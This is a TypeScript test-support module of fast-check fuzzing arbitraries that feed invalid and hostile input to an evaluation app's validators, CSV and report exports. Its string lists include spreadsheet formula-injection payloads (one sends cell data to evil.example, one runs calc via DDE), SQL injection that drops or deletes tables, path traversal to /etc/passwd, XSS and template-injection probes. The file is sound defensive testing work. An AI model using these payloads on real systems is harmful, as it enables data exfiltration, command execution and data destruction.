// Test support: fast-check arbitraries for invalid and hostile input (wrong types, huge and odd
// strings, injection attempts, truncated JSON, CSV with wrong columns).
import fc from 'fast-check';

/**
 * Text a spreadsheet would run as a formula (or DDE) if a CSV export wrote it as it is: every
 * text cell of every export gets each of them in the export tests.
 */
export const FORMULA_STRINGS = [
  '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
];

/**
 * Text no stored field may hold: characters XML 1.0 forbids (a Word file with one does not open)
 * and NUL. Every text field that reaches a report gets each of them in the input tests.
 */
export const WORD_ILLEGAL_STRINGS = [
  'a\uFFFEb',
  'end\uFFFF',
  'bell\u0007',
  '\u000B',
  'esc\u001B[31m',
  'lone \uD800 high',
  '\uDFFF low',
  'nul\u0000',
];

/**
 * Words with no place to break: every rendered output (web pages, HTML, PDF and Word reports)
 * must wrap them, never clip them or grow wider than its page.
 */
export const LONG_WORDS = [
  `https://www.example.org/kommunkompassen/rapporter/${'a'.repeat(40)}/styrkor-och-forbattringar.html`,
  `Kommunstyrelse${'förvaltnings'.repeat(12)}organisationen`,
];

/** Strings that have broken parsers, queries or templates somewhere. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '\t\r\n',
  '\u0000',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  '0x10',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'prototype',
  "' OR '1'='1",
  "'); DROP TABLE evaluations; --",
  '"; DELETE FROM audit_log; --',
  '$1',
  '?',
  '%',
  '%ZZ',
  '%00',
  '../../etc/passwd',
  '..\\..\\windows',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection attempt, on purpose
  '${7*7}',
  '{{7*7}}',
  '=HYPERLINK("http://x")',
  ...FORMULA_STRINGS,
  ...WORD_ILLEGAL_STRINGS,
  ...LONG_WORDS,
  '\uD800',
  '\uDFFF\uD800',
  '\u202Eevil',
  '\uFEFF',
  'Å\u030A',
  '🏳️‍🌈👩‍👩‍👧',
  'ÅÄÖ åäö',
  '1.1',
  '0',
  '-1',
  '9999-99-99',
  '2026-02-30',
];

/** A hostile string: a nasty constant, arbitrary code units (lone surrogates too) or a long one. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('a', 'Ö', '😀', "'", '\u0000'), fc.integer({ min: 200, max: 20_000 }))
      .map(([unit, n]) => unit.repeat(n)),
  },
);

/** A JSON value of the wrong kind for almost any field. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      null,
      true,
      false,
      0,
      -1,
      -0.5,
      1e308,
      -1e308,
      2 ** 53 + 1,
      Number.MAX_SAFE_INTEGER,
      5e-324,
      0.1 + 0.2,
    ),
  },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }) },
);

/**
 * An object with some of the schema's own keys (so validation gets past "unknown key") holding
 * wrong or hostile values, maybe with extra keys, `__proto__` among them.
 */
export function hostileObject(keys: string[]): fc.Arbitrary<Record<string, unknown>> {
  const own = keys.length > 0 ? fc.subarray(keys) : fc.constant<string[]>([]);
  return fc
    .tuple(
      own,
      fc.array(hostileValue, { minLength: keys.length, maxLength: keys.length }),
      fc.dictionary(
        fc.constantFrom('__proto__', 'constructor', 'zzz', 'version', 'id'),
        hostileValue,
        {
          maxKeys: 2,
        },
      ),
    )
    .map(([chosen, values, extra]) => {
      const body: Record<string, unknown> = {};
      chosen.forEach((key, i) => {
        body[key] = values[i];
      });
      // Extra keys set as own properties (JSON.parse makes `__proto__` an own key too).
      for (const [key, value] of Object.entries(extra))
        Object.defineProperty(body, key, { value, enumerable: true });
      return body;
    });
}

/** A request body as text: wrong JSON, truncated JSON, not JSON at all, or JSON of a wrong kind. */
export function hostileJsonText(keys: string[]): fc.Arbitrary<string> {
  const object = hostileObject(keys).map((body) => JSON.stringify(body));
  return fc.oneof(
    { weight: 5, arbitrary: object },
    {
      weight: 2,
      arbitrary: fc
        .tuple(object, fc.double({ min: 0, max: 1, noNaN: true }))
        .map(([text, cut]) => text.slice(0, Math.floor(text.length * cut))),
    },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: hostileString },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '{"a":1',
        '{"a":}',
        "{'a':1}",
        '[1,2,',
        '{"version":1}{"version":2}',
        '\uFEFF{}',
        '{"version":1e999}',
        `${'['.repeat(5000)}${']'.repeat(5000)}`,
        `{"format":"kommunkompassen-evaluation/1","x":${'['.repeat(10_000)}${']'.repeat(10_000)}}`,
        '{"__proto__":{"format":"kommunkompassen-evaluation/1"}}',
        '{"constructor":{"prototype":{}}}',
        '{"name":"a\\uFFFEb","code":"\\uD800"}',
      ),
    },
  );
}

const CSV_HEADER = 'Kommun;Kommunkod;År;Version;Typ;1;2;3;4;5;6;7;8;Totalt;Källa;Anteckning'.split(
  ';',
);

/** A references CSV that is wrong somehow: columns missing, extra or moved, cells of the wrong kind. */
export const hostileCsv: fc.Arbitrary<string> = fc
  .tuple(
    fc.oneof(
      fc.constant(CSV_HEADER),
      fc.shuffledSubarray(CSV_HEADER),
      fc.array(hostileString, { maxLength: 20 }),
      fc.constant([...CSV_HEADER, 'Extra']),
    ),
    fc.array(
      fc.array(
        fc.oneof(
          hostileString,
          fc.constantFrom('61', '61,5', '61.5', '-3', '1444', 'kk-2010', 'kommun', '"a;b"', '"'),
        ),
        { maxLength: 20 },
      ),
      { maxLength: 6 },
    ),
    fc.constantFrom(';', ',', '\t'),
    fc.constantFrom('\r\n', '\n', '\r'),
    fc.boolean(),
  )
  .map(
    ([header, rows, separator, newline, bom]) =>
      `${bom ? '\uFEFF' : ''}${[header, ...rows].map((row) => row.join(separator)).join(newline)}`,
  );

/** Content types a client may send by mistake (or on purpose). */
export const contentType = fc.constantFrom(
  'application/json',
  'application/json',
  'application/json',
  'application/json; charset=utf-16',
  'text/plain',
  'text/csv',
  'text/csv; charset=windows-1252',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  undefined,
);

type Json = unknown;

/** Every path to a value inside `value` (objects and arrays), the root included. */
function paths(value: Json, prefix: (string | number)[] = []): (string | number)[][] {
  const here = [prefix];
  if (Array.isArray(value)) return [...here, ...value.flatMap((v, i) => paths(v, [...prefix, i]))];
  if (value && typeof value === 'object')
    return [...here, ...Object.entries(value).flatMap(([k, v]) => paths(v, [...prefix, k]))];
  return here;
}

/**
 * A valid document broken in one place: a value replaced by a hostile one, a key dropped, or an
 * unknown key added. Such a file gets past the first checks, so the deeper ones are exercised.
 */
export function brokenInOnePlace(valid: Json): fc.Arbitrary<Json> {
  const all = paths(valid);
  return fc
    .tuple(fc.nat({ max: all.length - 1 }), fc.constantFrom('set', 'delete', 'add'), hostileValue)
    .map(([index, op, replacement]) => {
      const copy = structuredClone(valid) as Record<string | number, Json>;
      const path = all[index] ?? [];
      if (path.length === 0) return op === 'set' ? replacement : copy;
      let parent: Record<string | number, Json> = copy;
      for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, Json>;
      const last = path[path.length - 1] as string | number;
      if (op === 'set') parent[last] = replacement;
      else if (op === 'delete') {
        if (Array.isArray(parent)) parent.splice(last as number, 1);
        else delete parent[last];
      } else if (!Array.isArray(parent)) parent.zzzUnknown = replacement;
      else parent.push(replacement);
      return copy;
    });
}
